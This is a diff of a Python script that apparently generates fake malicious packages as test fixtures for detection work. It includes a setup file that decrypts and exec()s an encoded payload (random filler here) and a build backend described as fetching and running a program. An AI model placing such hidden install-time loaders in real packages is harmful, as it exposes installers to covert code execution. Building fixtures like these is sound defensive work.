@@ -86,7 +86,15 @@ if os.name == "nt":
     w.sdist("fernet-settings", "0.1.0", "encoded-payload", "a one-liner decrypts and executes", HEAD + "\nfrom cryptography.fernet import Fernet;exec(Fernet(b'%s').decrypt(b'gAAAAAB%s'))\n" % (
         kit.b64(Dice("fer").raw(32)), Dice("fer2").text(kit.B64URL, 600)) + SETUP_TAIL)
     w.sdist("build-hooks-extra", "0.5.0", "in-tree-backend", "its own build backend fetches a program and runs it", {
-        "pyproject.toml": '[build-system]\nrequires = ["setuptools"]\nbuild-backend = "backend"\nbackend-path = ["_build"]\n\n[project]\nname = "{NAME}"\nversion = "{VERSION}"\n',
+        "pyproject.toml": '''[build-system]
+requires = ["setuptools"]
+build-backend = "backend"
+backend-path = ["_build"]
+
+[project]
+name = "{NAME}"
+version = "{VERSION}"
+''',
         "_build/backend.py": r'''
 from setuptools.build_meta import *  # noqa: F401,F403
 from setuptools import build_meta as _orig
